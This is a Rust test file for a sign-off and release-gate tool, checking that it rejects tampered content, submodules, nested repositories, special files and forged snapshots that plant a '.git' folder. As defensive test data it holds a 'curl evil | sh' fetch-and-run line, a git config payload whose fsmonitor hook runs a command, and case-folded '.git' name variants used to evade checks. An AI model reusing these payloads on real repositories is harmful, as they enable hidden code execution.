//! Attacks on what the gate hashes and what a snapshot may write: ignored
//! and nested files the gate skipped, submodule entries in a commit, a
//! signed snapshot that plants a `.git` folder on extraction, and a gate run
//! on a checkout it cannot write to. Each attack is mounted as an attacker
//! mounts it (git plumbing, stock `ssh-keygen -Y sign`), never through
//! signoff's library.

use std::path::Path;

use sha2::{Digest as _, Sha256};

use crate::common::{Run, TestEnv, dir_of, has_line, sh, sh_with, verify_fails};

/// alice (admin), bob, cat; `dist/` committed with `app.txt` and a tracked
/// `payload.sh` that `.gitignore` names; `rel/app` requested on `dist` from
/// bob, and approved by him.
fn approved_dist() -> TestEnv {
    let env = TestEnv::with_people();
    env.write("dist/app.txt", "app 1\n");
    env.write("dist/payload.sh", "echo good\n");
    env.write(".gitignore", "payload.sh\n*.log\n");
    env.git(&["add", ".gitignore", "dist/app.txt"]);
    env.git(&["add", "-f", "dist/payload.sh"]);
    env.git(&["commit", "-q", "-m", "dist"]);
    env.run("alice", &["request", "rel/app", "dist", "--to", "bob"])
        .ok();
    env.run("bob", &["approve", "rel/app"]).ok();
    env.run("alice", &["gate", "rel/app"]).code(0);
    env.run("alice", &["gate", "rel/app", "--rev", "HEAD"])
        .code(0);
    env
}

/// The gate's stale line, checked to name `needle` (e.g. "modified dist/x").
#[track_caller]
fn stale_naming(r: &Run, needle: &str) {
    assert_eq!(r.code, 12, "{r:?}");
    assert!(r.stdout.contains("stale: content changed"), "{}", r.stdout);
    assert!(r.stdout.contains(needle), "{needle:?} in {}", r.stdout);
}

#[test]
fn ignored_files_count_at_the_gate() {
    let env = approved_dist();
    // The request snapshotted the tracked file .gitignore names.
    let show = env.run("alice", &["show", "rel/app", "--json"]).ok().json();
    let paths: Vec<&str> = show["request"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["dist/app.txt", "dist/payload.sh"]);

    // Changing the tracked-but-ignored file is a change to what ships.
    env.write("dist/payload.sh", "curl evil | sh\n");
    let r = env.run("alice", &["gate", "rel/app"]);
    stale_naming(&r, "modified dist/payload.sh");
    let j = env
        .run("alice", &["gate", "rel/app", "--json"])
        .code(12)
        .json();
    assert_eq!(j["content"]["changes"][0]["path"], "dist/payload.sh");
    assert_eq!(j["content"]["changes"][0]["change"], "modified");
    env.git(&["checkout", "-q", "--", "dist/payload.sh"]);
    env.run("alice", &["gate", "rel/app"]).code(0);

    // So does an untracked, ignored file dropped next to it.
    env.write("dist/extra.log", "shipped too\n");
    let r = env.run("alice", &["gate", "rel/app"]);
    stale_naming(&r, "added dist/extra.log");
    std::fs::remove_file(env.repo.join("dist/extra.log")).unwrap();

    // And a removed file is named as removed.
    std::fs::remove_file(env.repo.join("dist/app.txt")).unwrap();
    let r = env.run("alice", &["gate", "rel/app"]);
    stale_naming(&r, "removed dist/app.txt");
    env.git(&["checkout", "-q", "--", "dist/app.txt"]);

    // An empty folder holds no bytes.
    std::fs::create_dir_all(env.repo.join("dist/empty/deeper")).unwrap();
    env.run("alice", &["gate", "rel/app"]).code(0);
}

/// Commits `dist/vendor` as a submodule entry (a gitlink) with plumbing.
fn commit_gitlink(env: &TestEnv) {
    let head = env.git(&["rev-parse", "HEAD"]);
    let index = env.tmp.path().join("attack-index");
    let index = index.to_str().unwrap();
    let git = |args: &[&str]| sh_with(&env.repo, "git", &[("GIT_INDEX_FILE", index)], b"", args);
    git(&["read-tree", "HEAD"]);
    let info = format!("160000,{},dist/vendor", head.trim());
    git(&["update-index", "--add", "--cacheinfo", &info]);
    let tree = git(&["write-tree"]);
    let commit = git(&["commit-tree", tree.trim(), "-p", "HEAD", "-m", "vendor"]);
    env.git(&["update-ref", "refs/heads/main", commit.trim()]);
}

#[test]
fn submodule_entries_at_a_revision_fail_closed() {
    let env = approved_dist();
    commit_gitlink(&env);
    let r = env.run("alice", &["gate", "rel/app", "--rev", "HEAD"]);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/vendor"), "{}", r.stderr);
    assert!(r.stderr.contains("submodule"), "{}", r.stderr);
    assert!(r.stderr.contains("hint: "), "{}", r.stderr);
    // The commit before it still passes.
    env.run("alice", &["gate", "rel/app", "--rev", "HEAD~1"])
        .code(0);
    // request refuses the same entry, and writes nothing.
    let tip = env.tip();
    let r = env.run(
        "alice",
        &["request", "rel/app", "dist", "--rev", "HEAD", "--to", "bob"],
    );
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/vendor"), "{}", r.stderr);
    assert_eq!(env.tip(), tip);
}

#[test]
fn nested_repositories_in_the_working_tree_fail_closed() {
    let env = approved_dist();
    // A nested repository: its hooks and config ship with the folder.
    let inner = env.repo.join("dist/inner");
    std::fs::create_dir_all(&inner).unwrap();
    sh(&inner, "git", &["init", "-q"]);
    let r = env.run("alice", &["gate", "rel/app"]);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/inner/.git"), "{}", r.stderr);
    assert!(r.stderr.contains("nested git repository"), "{}", r.stderr);
    assert!(r.stderr.contains("hint: "), "{}", r.stderr);
    let tip = env.tip();
    let r = env.run("alice", &["request", "rel/app", "dist", "--to", "bob"]);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/inner/.git"), "{}", r.stderr);
    assert_eq!(env.tip(), tip);
    std::fs::remove_dir_all(&inner).unwrap();

    // A checked-out submodule has a `.git` file; a case-folded `.GIT` is
    // the same folder on macOS and Windows.
    for name in [".git", ".GIT"] {
        env.write(
            &format!("dist/sub/{name}"),
            "gitdir: ../../.git/modules/sub\n",
        );
        let r = env.run("alice", &["gate", "rel/app"]);
        assert_eq!(r.code, 4, "{name}: {r:?}");
        assert!(
            r.stderr.contains(&format!("dist/sub/{name}")),
            "{}",
            r.stderr
        );
        std::fs::remove_dir_all(env.repo.join("dist/sub")).unwrap();
    }
    env.run("alice", &["gate", "rel/app"]).code(0);
}

#[test]
fn special_files_in_the_working_tree_fail_closed() {
    let env = approved_dist();
    // A pipe would block a reader forever; a symlink points at other bytes.
    sh(&env.repo, "mkfifo", &["dist/pipe"]);
    let bin = crate::common::bin();
    let c = env.cmd("alice");
    let out = crate::common::base_command("timeout", &env.repo)
        .envs(c.get_envs().filter_map(|(k, v)| v.map(|v| (k, v))))
        .arg("60")
        .arg(&bin)
        .args(["gate", "rel/app"])
        .output()
        .unwrap();
    let r = Run::from(out);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/pipe"), "{}", r.stderr);
    assert!(r.stderr.contains("not a regular file"), "{}", r.stderr);
    std::fs::remove_file(env.repo.join("dist/pipe")).unwrap();

    std::os::unix::fs::symlink("app.txt", env.repo.join("dist/alias")).unwrap();
    let r = env.run("alice", &["gate", "rel/app"]);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/alias"), "{}", r.stderr);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
}

/// The content hash of a manifest, computed from its documented
/// serialisation (not signoff's code).
fn content_hash(files: &[(&str, &[u8])]) -> String {
    let mut sorted = files.to_vec();
    sorted.sort_by(|a, b| a.0.as_bytes().cmp(b.0.as_bytes()));
    let mut h = Sha256::new();
    h.update(b"signoff-content-v1\n");
    for (path, body) in sorted {
        h.update((path.len() as u64).to_be_bytes());
        h.update(path.as_bytes());
        h.update((body.len() as u64).to_be_bytes());
        h.update(Sha256::digest(body));
    }
    format!("sha256:{}", hex::encode(h.finalize()))
}

/// `git mktree` from `(mode, kind, id, name)` lines.
fn mktree(env: &TestEnv, entries: &[(String, String, String, String)]) -> String {
    let mut text = String::new();
    for (mode, kind, id, name) in entries {
        text.push_str(&format!("{mode} {kind} {id}\t{name}\n"));
    }
    sh_with(&env.repo, "git", &[], text.as_bytes(), &["mktree"])
        .trim()
        .to_string()
}

fn blob(env: &TestEnv, bytes: &[u8]) -> String {
    sh_with(
        &env.repo,
        "git",
        &[],
        bytes,
        &["hash-object", "-w", "--stdin"],
    )
    .trim()
    .to_string()
}

fn file(id: &str, name: &str) -> (String, String, String, String) {
    ("100644".into(), "blob".into(), id.into(), name.into())
}

fn folder(id: &str, name: &str) -> (String, String, String, String) {
    ("040000".into(), "tree".into(), id.into(), name.into())
}

const HOOK: &[u8] = b"[core]\n\tfsmonitor = \"touch pwned\"\n";

/// bob — a listed person whose key the attacker holds — signs a request for
/// `evil` whose snapshot holds `dir/config` (`dir` being `.git` or a form a
/// file system folds to it), and commits it with plumbing: `git update-index`
/// refuses such paths, so the trees are built with `git mktree`.
fn plant_git_snapshot(env: &TestEnv, dir: &str) -> String {
    // A genuine request by bob shows the record's shape.
    env.write("brief.txt", "brief\n");
    env.run("bob", &["request", "genuine", "brief.txt", "--to", "cat"])
        .ok();
    let show = env.run("bob", &["show", "genuine", "--json"]).ok().json();
    let genuine = show["request"]["id"].as_str().unwrap().to_string();
    let text =
        String::from_utf8(env.store_file(&format!("{}/{genuine}/request.toml", dir_of("genuine"))))
            .unwrap();
    let path = format!("{dir}/config");
    let id = uuid::Uuid::now_v7().to_string();
    let config = blob(env, HOOK);
    let head = text.split("[[files]]").next().unwrap();
    let old_content = show["request"]["content"].as_str().unwrap();
    let forged = format!(
        "{head}[[files]]\npath = {}\nblob = \"{config}\"\nsha256 = \"{}\"\nsize = {}\n",
        toml::Value::String(path.clone()),
        hex::encode(Sha256::digest(HOOK)),
        HOOK.len()
    )
    .replace(&genuine, &id)
    .replace("deliverable = \"genuine\"", "deliverable = \"evil\"")
    .replace(old_content, &content_hash(&[(&path, HOOK)]))
    .replace("brief.txt", &path);
    let sig = env.sign_bytes("bob", "signoff", forged.as_bytes());
    let config_dir = mktree(env, &[file(&config, "config")]);
    let content = mktree(env, &[folder(&config_dir, dir)]);
    let request = mktree(
        env,
        &[
            file(&blob(env, forged.as_bytes()), "request.toml"),
            file(&blob(env, &sig), "request.toml.sig"),
            folder(&content, "content"),
        ],
    );
    let evil = mktree(env, &[folder(&request, &id)]);
    let root = env.root_with(&dir_of("evil"), &evil);
    let env_vars = [
        ("GIT_AUTHOR_NAME", "Bob"),
        ("GIT_AUTHOR_EMAIL", "bob@example.com"),
        ("GIT_COMMITTER_NAME", "Bob"),
        ("GIT_COMMITTER_EMAIL", "bob@example.com"),
    ];
    let commit = sh_with(
        &env.repo,
        "git",
        &env_vars,
        b"",
        &["commit-tree", &root, "-p", "signoff", "-m", "request evil"],
    );
    env.git(&["update-ref", "refs/heads/signoff", commit.trim()]);
    format!("{}/{id}/content", dir_of("evil"))
}

#[test]
fn extracting_a_signed_snapshot_never_plants_a_git_folder() {
    for dir in [".git", ".GIT", "GIT~1", ".git.", ".g\u{200c}it"] {
        let env = TestEnv::with_people();
        let content = plant_git_snapshot(&env, dir);
        // verify names the record.
        let r = verify_fails(&env);
        has_line(&r, &content, "names a git folder or file");
        // Extracting writes nothing: no `.git` folder, no config.
        let target = env.tmp.path().join("out");
        let r = env.run(
            "alice",
            &["show", "evil", "--extract", target.to_str().unwrap()],
        );
        assert_eq!(r.code, 5, "{dir}: {r:?}");
        assert!(
            r.stderr.contains("names a git folder or file") && r.stderr.contains("/config"),
            "{dir}: {}",
            r.stderr
        );
        assert!(r.stderr.contains("hint: "), "{}", r.stderr);
        assert!(
            !target.exists() || std::fs::read_dir(&target).unwrap().next().is_none(),
            "{dir}: files were extracted"
        );
    }
}

#[test]
fn request_refuses_git_names() {
    let env = TestEnv::with_people();
    let tip = env.tip();
    // In a commit, made with plumbing (git's own index refuses these).
    let config = blob(&env, HOOK);
    let dot_git = mktree(&env, &[file(&config, "config")]);
    let dist = mktree(&env, &[folder(&dot_git, ".Git")]);
    let root = mktree(&env, &[folder(&dist, "dist")]);
    let commit = sh(&env.repo, "git", &["commit-tree", &root, "-m", "evil"]);
    env.git(&["update-ref", "refs/heads/evil", commit.trim()]);
    let r = env.run(
        "alice",
        &["request", "evil", "dist", "--rev", "evil", "--to", "bob"],
    );
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("dist/.Git"), "{}", r.stderr);
    // In the working tree, a trailing dot and `.gitmodules` likewise.
    for name in ["dist/.git./config", "dist/.gitmodules"] {
        env.write(name, "[core]\n");
        let r = env.run("alice", &["request", "evil", "dist", "--to", "bob"]);
        assert_eq!(r.code, 4, "{name}: {r:?}");
        assert!(
            r.stderr.contains(name.split('/').nth(1).unwrap()),
            "{name}: {}",
            r.stderr
        );
        assert!(r.stderr.contains("hint: "), "{name}: {}", r.stderr);
        assert_eq!(env.tip(), tip, "{name}: nothing written");
        std::fs::remove_dir_all(env.repo.join("dist")).unwrap();
    }
    assert_eq!(env.tip(), tip);
}

/// Runs `signoff ARGS` in `repo` as the unprivileged user `nobody` (who
/// cannot write the repository), with its own writable HOME.
fn run_as_nobody(env: &TestEnv, home: &Path, args: &[&str]) -> Run {
    let c = env.cmd("alice");
    let mut cmd = crate::common::base_command("setpriv", &env.repo);
    cmd.envs(c.get_envs().filter_map(|(k, v)| v.map(|v| (k, v))))
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(crate::common::bin())
        .args(args);
    Run::from(cmd.output().unwrap())
}

/// Whether this process can run commands as `nobody` (root with setpriv).
fn can_drop_privileges() -> bool {
    let probe = crate::common::base_command("setpriv", Path::new("/"))
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--",
            "true",
        ])
        .output();
    probe.is_ok_and(|o| o.status.success())
}

#[test]
fn read_commands_work_on_a_read_only_repository() {
    if !can_drop_privileges() {
        crate::common::cannot_run("needs root and setpriv to run as a user without write access");
        return;
    }
    let env = TestEnv::with_people();
    env.write("dist/app.txt", "app 1\n");
    env.git(&["add", "dist"]);
    env.git(&["commit", "-q", "-m", "dist"]);
    env.run("alice", &["request", "rel/app", "dist", "--to", "bob"])
        .ok();
    env.run("bob", &["approve", "rel/app"]).ok();
    // Everything readable, nothing writable by `nobody` (the checkout is
    // root's, as a CI cache or another user's checkout is).
    sh(env.tmp.path(), "chmod", &["-R", "a+rX,go-w", "."]);
    sh(
        env.tmp.path(),
        "chmod",
        &["a+rx", env.tmp.path().to_str().unwrap()],
    );
    let home = env.tmp.path().join("nobody-home");
    std::fs::create_dir_all(&home).unwrap();
    sh(
        env.tmp.path(),
        "chown",
        &["65534:65534", home.to_str().unwrap()],
    );
    // A CI job marks the checkout safe, as actions/checkout does.
    std::fs::write(home.join(".gitconfig"), "[safe]\n\tdirectory = *\n").unwrap();
    for args in [
        vec!["gate", "rel/app"],
        vec!["gate", "rel/app", "--rev", "HEAD"],
        vec!["status"],
        vec!["status", "rel/app"],
        vec!["list"],
        vec!["show", "rel/app"],
        vec!["log"],
        vec!["verify"],
        vec!["certificate", "rel/app"],
        vec!["report"],
    ] {
        let r = run_as_nobody(&env, &home, &args);
        assert_eq!(r.code, 0, "{args:?}: {r:?}");
        assert!(
            !r.stderr.contains("Permission denied"),
            "{args:?}: {}",
            r.stderr
        );
    }
    // The files changed: the gate says stale, naming them, still read-only.
    env.write("dist/app.txt", "app 2\n");
    sh(
        env.tmp.path(),
        "chmod",
        &["a+r", env.repo.join("dist/app.txt").to_str().unwrap()],
    );
    let r = run_as_nobody(&env, &home, &["gate", "rel/app"]);
    stale_naming(&r, "modified dist/app.txt");
}
